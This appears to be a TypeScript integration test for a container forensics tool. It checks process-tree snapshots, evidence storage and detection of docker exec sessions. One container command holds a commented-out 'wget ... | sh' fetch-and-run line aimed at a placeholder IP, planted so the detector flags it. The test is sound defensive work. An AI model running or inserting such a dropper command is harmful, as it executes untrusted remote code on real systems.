import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { ProcessSampleEvent } from '../../../shared/domain/processes';
import { BUSYBOX, docker, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
import { waitFor } from '../../helpers/wait';

describe('process trees without exec', () => {
  let t: TestCore;
  let id = '';
  const name = `dd-ps-${process.pid}`;

  before(async () => {
    t = startTestCore('drydock-ps');
    // An entrypoint shell with a background sleep and a nested shell that runs its own sleep, and a
    // download-and-run line an intruder would leave.
    id = runContainer([
      '--name',
      name,
      BUSYBOX,
      'sh',
      '-c',
      'sleep 1001 & sh -c "sleep 1002; true" & sh -c "sleep 1003; true # wget -qO- http://203.0.113.9/x | sh" & wait',
    ]);
    await t.call('hosts.add', { name: 'local', url: 'unix:///var/run/docker.sock' });
    await t.call('evidence.case-create', { name: 'Process case' });
    await waitFor(() => docker(['top', id]).includes('sleep 1003') || undefined, { what: 'all processes started' });
  });

  after(async () => {
    removeContainers([id]);
    await t.close();
  });

  it('builds the real tree with parent links and flags the download-and-run line', async () => {
    const result = await t.call('processes.snapshot', { host: 'local', container: name });
    const { snapshot } = result;
    const init = snapshot.processes.find((p) => p.isInit);
    assert.ok(init, 'the entrypoint is marked');
    assert.match(init.args, /^sh -c sleep 1001/);
    const byArgs = (needle: string) => snapshot.processes.find((p) => p.args === needle || p.args.startsWith(needle));
    const bg = byArgs('sleep 1001');
    assert.equal(bg?.parent, init.pid, 'the background sleep is a child of the entrypoint');
    const nested = byArgs('sh -c sleep 1002');
    assert.equal(nested?.parent, init.pid);
    const grandchild = byArgs('sleep 1002');
    assert.equal(grandchild?.parent, nested?.pid, 'the nested shell parents its own sleep');
    assert.equal(grandchild?.depth, 2);
    assert.ok(snapshot.processes.every((p) => p.inEntrypointLineage));
    const dropper = byArgs('sh -c sleep 1003; true # wget');
    assert.ok(
      dropper?.flags.some((f) => f.kind === 'download-exec'),
      'wget | sh is flagged',
    );
    assert.ok(snapshot.flagged.includes(dropper!.pid));
    assert.ok(result.stored, 'the snapshot is stored in the case');
    const verify = await t.call('evidence.verify', {});
    assert.equal(verify.ok, true);
  });

  it('watches: a process started with docker exec appears in the next sample, marked as an exec session', async () => {
    const samples: ProcessSampleEvent[] = [];
    const off = t.core.events.subscribe((event, payload) => {
      if (event === 'processes.sample') samples.push(payload as ProcessSampleEvent);
    });
    const watch = await t.call('processes.watch', { host: 'local', container: name, intervalSeconds: 1 });
    try {
      docker(['exec', '-d', id, 'sleep', '1234']);
      const appeared = await waitFor(
        () => samples.flatMap((s) => s.changes).find((c) => c.kind === 'appeared' && c.args === 'sleep 1234'),
        { what: 'the exec-started process', timeoutMs: 30000 },
      );
      const sample = samples.find((s) => s.changes.includes(appeared))!;
      const entry = sample.snapshot.processes.find((p) => p.pid === appeared.pid);
      assert.ok(entry?.execId, 'linked to the engine exec session');
    } finally {
      off();
      await t.call('processes.unwatch', { watchId: watch.id });
    }
  });
});
